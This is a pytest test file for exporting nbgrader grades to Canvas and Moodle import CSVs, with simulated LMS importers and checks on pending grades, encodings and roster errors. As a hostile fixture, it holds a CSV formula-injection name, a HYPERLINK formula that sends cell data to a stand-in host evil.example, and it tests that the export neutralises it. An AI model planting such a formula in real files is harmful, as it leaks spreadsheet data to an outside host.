"""Grades out to Canvas and Moodle (issue 39): the import file each documents, read back as each reads it.

The gradebook is built with nbgrader's API (no notebook is graded): two assignments, one with a
written answer; a student whose written answer awaits a grader (an empty cell, never 0), one graded
by hand, one who handed nothing in (0), hostile names (a formula, Canvas's ``Points Possible``),
non-ASCII names, and a student the roster does not hold. Each file is then read as the LMS reads it:
:func:`canvas_import` follows Canvas's importer (instructure/canvas-lms ``gradebook_importer.rb``:
the header check, the ``Points Possible`` row, a student found by ID, SIS ids or name, a blank cell
is no grade) and :func:`moodle_import` Moodle's (``grade/import/csv/classes/load_data.php``: a user
found by the mapped identifier or the import stops; ``''`` or ``-`` is no grade, anything else a number).
"""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest

from dpgrader import Course
from dpgrader.classroom.cli import main
from dpgrader.classroom.lms import CANVAS_STUDENT_COLUMNS, export_lms, read_roster

# nbgrader's add_submission warns of its own session use (SQLAlchemy); the gradebook it builds is complete.
pytestmark = [pytest.mark.filterwarnings("ignore:Object of type <Submitted:sqlalchemy.exc.SAWarning"),
              pytest.mark.xdist_group("lms_export")]  # one worker builds the gradebook once

A1, A2 = "01_definition", "02_laplace"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
ROSTER = [  # student_id, name, canvas_id, sis_user_id, sis_login_id, section, email
    ("ada", "Lovelace, Ada", "4711", "S0001", "ada", "Section A", "ada@example.edu"),
    ("bob", "Byron, Bob", "4712", "S0002", "bob", "Section B", "bob@example.edu"),
    ("mal", FORMULA, "4713", "S0003", "mal", "Section A", "mal@example.edu"),
    ("pp", "Points Possible", "4714", "S0004", "pp", "Section A", "pp@example.edu"),
    ("zoe", "Ünal, Zoë", "4715", "S0005", "zoe", "Sección Ñ", "zoë@example.edu"),
    ("carl", "Carl, Never-Enrolled", "4716", "S0006", "carl", "Section B", "carl@example.edu"),  # not in the gradebook
]
NOT_IN_ROSTER = "eve"
# What the LMS must end up with, per student and assignment: a number, or None (no grade: points pending).
EXPECTED = {
    "ada": {A1: None, A2: 6.0},  # written answer awaits a grader: empty, not 10 nor 0
    "bob": {A1: 5.5, A2: 0.0},  # 4 autograded + 1.5 by hand; handed nothing in for A2: 0
    "mal": {A1: 12.0, A2: 8.0},
    "pp": {A1: 3.0, A2: 8.0},
    "zoe": {A1: 11.0, A2: 7.25},
}


def _grade(gradebook, assignment, student, scores: dict[str, float | None]):
    """A submission with these cell scores (None: a written answer awaiting a grader)."""
    gradebook.add_submission(assignment, student)
    for cell, score in scores.items():
        grade = gradebook.find_grade(cell, "nb", assignment, student)
        if cell == "written":
            grade.needs_manual_grade = score is None
            grade.manual_score = score
        else:
            grade.auto_score, grade.needs_manual_grade = score, False
    gradebook.db.commit()


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    from nbgrader.api import Gradebook

    course = Course(tmp_path_factory.mktemp("lms course ä"))
    with Gradebook(course.gradebook_url) as gradebook:
        for assignment, cells in ((A1, {"auto": 10, "written": 2}), (A2, {"auto": 8})):
            gradebook.update_or_create_assignment(assignment)
            gradebook.update_or_create_notebook("nb", assignment)
            for cell, points in cells.items():
                gradebook.update_or_create_grade_cell(cell, "nb", assignment, max_score=points,
                                                      cell_type="markdown" if cell == "written" else "code")
        for student, name, canvas_id, *_ in ROSTER[:5]:
            last, first = name.split(", ") if ", " in name else ("", name)
            gradebook.add_student(student, first_name=first, last_name=last, lms_user_id=canvas_id)
        gradebook.add_student(NOT_IN_ROSTER, first_name="Eve", last_name="Ørsted")
        _grade(gradebook, A1, "ada", {"auto": 10, "written": None})
        _grade(gradebook, A2, "ada", {"auto": 6})
        _grade(gradebook, A1, "bob", {"auto": 4, "written": 1.5})
        _grade(gradebook, A1, "mal", {"auto": 10, "written": 2})
        _grade(gradebook, A2, "mal", {"auto": 8})
        _grade(gradebook, A1, "pp", {"auto": 3, "written": 0})
        _grade(gradebook, A2, "pp", {"auto": 8})
        _grade(gradebook, A1, "zoe", {"auto": 9, "written": 2})
        _grade(gradebook, A2, "zoe", {"auto": 7.25})
        _grade(gradebook, A1, NOT_IN_ROSTER, {"auto": 7, "written": 1})
        _grade(gradebook, A2, NOT_IN_ROSTER, {"auto": 5})
    roster = course.root / "roster.csv"
    with open(roster, "w", newline="", encoding="utf-8-sig") as handle:  # as Excel saves "CSV UTF-8": with a BOM
        writer = csv.writer(handle)
        writer.writerow(["student_id", "name", "canvas_id", "sis_user_id", "sis_login_id", "section", "email"])
        writer.writerows(ROSTER)
    return course


# --- the LMSs' readers, as their importers read a file ---------------------------------------------------------------


def canvas_import(data: bytes, students: list[dict]) -> tuple[dict[str, float], dict[str, dict[str, float | None]]]:
    """Read ``data`` as Canvas's gradebook importer does: (points possible, grades by matched student id).

    ``students`` are the course's enrollments (``id``, ``sis_user_id``, ``login``, ``name``,
    ``sortable_name``). Raises if the header is not the one Canvas accepts or a row matches nobody.
    """
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))  # Ruby's CSV.foreach reads UTF-8
    header = rows[0]
    assert len(header) > 3 and re.search("Student", header[0]) and re.search("ID", header[1])
    assert re.search(r"SIS\s+User\s+ID", header[2]) and re.search(r"SIS\s+Login\s+ID", header[3])
    assert re.search("Section", header[4]), "Canvas: Invalid header row"
    assignments = header[5:]
    points, grades = {}, {}
    for row in rows[1:]:
        if re.search("Points Possible", row[0]):  # every row is checked: a second one would redefine the points
            assert not points, "a second Points Possible row"
            points = {name: float(value) for name, value in zip(assignments, row[5:]) if value}
            continue
        if all(re.fullmatch(r"(Muted|)", cell.strip(), re.IGNORECASE) for cell in row):
            continue
        found = ([s for s in students if row[1] and str(s["id"]) == row[1]]
                 or [s for s in students if row[2] and s["sis_user_id"] == row[2]]
                 or [s for s in students if row[3] and s["login"] == row[3]]
                 or [s for s in students if row[0] and row[0] in (s["name"], s["sortable_name"])])
        assert found, f"Canvas would import a new, unknown student: {row[:5]}"
        grades[found[0]["login"]] = {name: float(value) if value.strip() else None
                                     for name, value in zip(assignments, row[5:])}
    return points, grades


def moodle_import(data: bytes, field: str, users: list[dict], encoding: str = "UTF-8") -> dict[str, dict[str, float | None]]:
    """Read ``data`` as Moodle's CSV grade import does, the first column mapped to the user ``field``.

    Every other column is mapped to the grade item of its name (existing items). A value the mapped
    field finds no user for stops the import, as ``check_user_exists`` does.
    """
    rows = list(csv.reader(io.StringIO(data.decode(encoding))))
    header = [name.strip() for name in rows[0]]  # trim_headers
    grades = {}
    for row in rows[1:]:
        matches = [user for user in users if user[field] == row[0]]
        assert matches, f"Moodle: no user with {field} {row[0]!r}: the import stops"
        values = {}
        for item, value in zip(header[1:], row[1:]):
            if value == "" or value == "-":
                values[item] = None  # no grade
            else:
                values[item] = float(value)  # unformat_float; a non-number stops the import ("badgrade")
        grades[matches[0]["username"]] = values
    return grades


CANVAS_ENROLLMENTS = [{"id": int(canvas_id), "sis_user_id": sis_user, "login": login,
                       "name": " ".join(reversed(name.split(", "))), "sortable_name": name}
                      for _, name, canvas_id, sis_user, login, _, _ in ROSTER]
MOODLE_USERS = [{"username": login, "idnumber": sis_user, "email": email} for _, _, _, sis_user, login, _, email in ROSTER]


# --- Canvas ----------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def canvas(course):
    export = export_lms(course.root, "canvas", roster=read_roster(course.root / "roster.csv"))
    return export, export.path.read_bytes()


def test_the_canvas_file_has_the_documented_header_points_row_and_order(canvas):
    export, data = canvas
    assert not data.startswith(b"\xef\xbb\xbf") and data.decode("utf-8")  # UTF-8, no byte-order mark
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", A1, A2] == CANVAS_STUDENT_COLUMNS + [A1, A2]
    assert rows[1] == ["Points Possible", "", "", "", "", "12", "8"]
    assert [row[3] for row in rows[2:]] == ["ada", "bob", "mal", "pp", "zoe"]  # one row per student, by id
    assert rows[2][:5] == ["Lovelace, Ada", "4711", "S0001", "ada", "Section A"]
    assert rows[-1][:5] == ["Ünal, Zoë", "4715", "S0005", "zoe", "Sección Ñ"]
    assert export.students == 5 and export.pending_cells == 1 and export.roster_only == ["carl"]


def test_canvas_reads_every_grade_a_pending_answer_as_no_grade(canvas):
    _, data = canvas
    points, grades = canvas_import(data, CANVAS_ENROLLMENTS)
    assert points == {A1: 12.0, A2: 8.0}
    assert grades == EXPECTED
    frame = pd.read_csv(io.BytesIO(data), skiprows=[1], encoding="utf-8")  # a spreadsheet view of the same file
    assert list(frame.columns) == CANVAS_STUDENT_COLUMNS + [A1, A2]
    assert pd.isna(frame.loc[frame["SIS Login ID"] == "ada", A1].item())
    assert frame.loc[frame["SIS Login ID"] == "bob", A2].item() == 0


def test_canvas_names_are_text_and_none_poses_as_the_points_possible_row(canvas):
    _, data = canvas
    rows = {row[3]: row for row in csv.reader(io.StringIO(data.decode("utf-8")))}
    assert rows["mal"][0] == "'" + FORMULA  # a spreadsheet shows text; Canvas matches mal by ID
    assert rows["pp"][0] == "pp" and sum(bool(re.search("Points Possible", row[0])) for row in rows.values()) == 1
    assert not any(cell.startswith(("=", "+", "@")) for row in rows.values() for cell in row)


def test_without_a_roster_canvas_gets_the_gradebooks_lms_ids_and_logins(course):
    export = export_lms(course.root, "canvas", course.root / "no_roster.csv")
    rows = {row[3]: row for row in csv.reader(io.StringIO(export.path.read_text(encoding="utf-8")))}
    assert rows["ada"][:5] == ["Lovelace, Ada", "4711", "", "ada", ""]
    assert rows[NOT_IN_ROSTER][:5] == ["Ørsted, Eve", "", "", NOT_IN_ROSTER, ""]  # matched by login
    assert not export.missing and export.missing_path is None and export.students == 6


# --- Moodle ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("moodle_id, header, field", [("email", "Email address", "email"),
                                                      ("idnumber", "ID number", "idnumber"),
                                                      ("username", "Username", "username")])
def test_moodle_reads_one_identifier_column_and_one_column_per_grade_item(course, moodle_id, header, field):
    export = export_lms(course.root, "moodle", course.root / f"moodle_{moodle_id}.csv",
                        read_roster(course.root / "roster.csv"), moodle_id=moodle_id)
    data = export.path.read_bytes()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    assert rows[0] == [header, A1, A2] and len(rows) == 1 + 5
    assert moodle_import(data, field, MOODLE_USERS) == EXPECTED
    if moodle_id == "email":  # zoë's address: UTF-8 is the encoding to choose at import
        assert "zoë@example.edu".encode("utf-8") in data
        with pytest.raises(AssertionError, match="no user with email"):
            moodle_import(data, field, MOODLE_USERS, encoding="latin-1")  # the wrong encoding finds nobody


# --- who is missing, the command line -------------------------------------------------------------------------------


def test_a_student_missing_from_the_roster_is_listed_with_every_grade_and_the_command_fails(course, capsys):
    out = course.root / "to canvas.csv"
    code = main(["--course", str(course.root), "export", "--to", "canvas", "--roster", str(course.root / "roster.csv"),
                 "--csv", str(out)])
    captured = capsys.readouterr()
    assert code == 1
    assert f"MISSING {NOT_IN_ROSTER}: not in the roster" in captured.err and "to canvas_missing.csv" in captured.err
    assert "5 students, 2 assignments; 1 cells left empty" in captured.out and "carl" in captured.out
    with open(course.root / "to canvas_missing.csv", newline="", encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row == {"student_id": NOT_IN_ROSTER, "name": "Ørsted, Eve", "reason": "not in the roster", A1: "8", A2: "5"}
    assert NOT_IN_ROSTER not in out.read_text(encoding="utf-8")


def test_a_moodle_student_without_the_identifier_is_missing_not_dropped(course, tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text("student_id,email\nada,ada@example.edu\nbob,\nmal,m@x\npp,p@x\nzoe,z@x\neve,e@x\n", encoding="utf-8")
    export = export_lms(course.root, "moodle", tmp_path / "m.csv", read_roster(roster))
    assert export.missing == {"bob": "no email in the roster (Moodle's Email address)"}
    assert (tmp_path / "m_missing.csv").read_text(encoding="utf-8").splitlines()[1] == f"bob,\"Byron, Bob\",no email in the roster (Moodle's Email address),5.5,0"


@pytest.mark.parametrize("text, message", [
    ("id,name\nada,Ada\n", "unknown column(s): id"),
    ("student_id,canvas_id\nada,4711\nada,4712\n", "line 3: student_id 'ada' is listed twice"),
    ("student_id,canvas_id\nada,SELECT 1\n", "line 2: canvas_id 'SELECT 1' is not a Canvas user id"),
    ("student_id,email\n,x@y\n", "line 2: student_id is empty"),
])
def test_a_bad_roster_is_refused_naming_the_line(course, tmp_path, capsys, text, message):
    roster = tmp_path / "roster.csv"
    roster.write_text(text, encoding="utf-8")
    assert main(["--course", str(course.root), "export", "--to", "moodle", "--roster", str(roster)]) == 2
    assert message in capsys.readouterr().err


def test_export_without_to_still_writes_grades_csv(course, tmp_path):
    assert main(["--course", str(course.root), "export", "--csv", str(tmp_path / "grades.csv")]) == 0
    header = (tmp_path / "grades.csv").read_text(encoding="utf-8").splitlines()[0]
    assert header.startswith("student_id,first_name,last_name,assignment,score,max_score,points_pending")
